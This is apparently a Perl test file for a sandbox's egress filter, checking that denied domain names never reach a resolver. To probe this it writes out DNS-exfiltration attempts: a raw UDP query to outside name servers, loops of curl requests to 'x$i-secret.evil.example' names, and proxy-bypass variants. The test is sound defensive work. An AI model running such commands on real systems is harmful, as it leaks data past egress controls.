# A29: names of a denied domain are a message to whoever answers for it. Inside no
# resolver is reached; the proxy asks only for names that a rule allows.
use strict;
use warnings;
use FindBin;
use lib "$FindBin::Bin/../t/lib";
use Sandboxd;
use Sandboxd::World;
use Test::More;

need_program('curl');
my $w = Sandboxd::World->new(names => { 'a.example' => ['11.22.33.44'] });
my $d = Sandboxd->start(conf => $w->conf);
$d->ok('sandbox.create', { id => 'open', network => 'filtered', egress => { default => 'allow' } });
$d->ok('sandbox.create', { id => 'f', network => 'filtered', egress => {
    allow => ['a.example', '*.good.example'], deny => ['evil.good.example'] } });

# A question straight to a name server, as a resolver would send it.
my $query = 'perl -MIO::Socket::INET -e \'my $s = IO::Socket::INET->new(Proto => "udp", '
    . 'PeerAddr => $ARGV[0], PeerPort => 53) or print("no: $!"), exit; $s->send(pack("H*", '
    . '"abcd01000001000000000000046c65616b076578616d706c650000010001")) or print("no: $!"), '
    . 'exit; print "sent"\'';
is(run_cmd(['sh', '-c', "$query 11.22.33.53"])->{out}, 'sent', 'outside a name server is reached');
ok(wait_for(10, sub { grep { /^leak\.example A$/ } $w->queries }), 'and hears the question');
$w->forget;
for my $server ('11.22.33.53', '8.8.8.8', '127.0.0.53') {
	$d->sh('f', "$query $server");
}
like($d->sh('f', "$query 11.22.33.53")->{stdout}, qr/^no: .*unreachable/i, 'inside there is no way');
is($d->sh('f', 'getent hosts leak.example')->{stdout}, '', 'nothing resolves names there');

sub hundred { my ($box, $below, $how) = @_;
    $d->sh($box, "for i in \$(seq 100); do curl -s $how -m 20 -o /dev/null http://x\$i-secret.$below/; done") }
hundred('open', 'evil.example', '');
my $heard = grep { /secret/ } $w->queries;
ok($heard >= 100, 'with every name allowed a hundred names say a hundred words');
$w->forget;
hundred('f', 'evil.example', '');
hundred('f', 'evil.example', '-p');
hundred('f', 'evil.example', '--proxy "" --socks5-hostname 127.0.0.1:61080');
$d->sh('f', 'curl -s -m 20 -o /dev/null http://evil.good.example/');
is(join(' ', $w->queries), '', 'of a name that is denied no packet leaves');
is($d->sh('f', 'curl -sS -m 20 -o /dev/null -w "%{http_code}" http://a.example/')->{stdout}, 200,
    'one that is allowed is looked up');
is(join(' ', sort $w->queries), 'a.example A a.example AAAA', 'and no other');

done_testing;
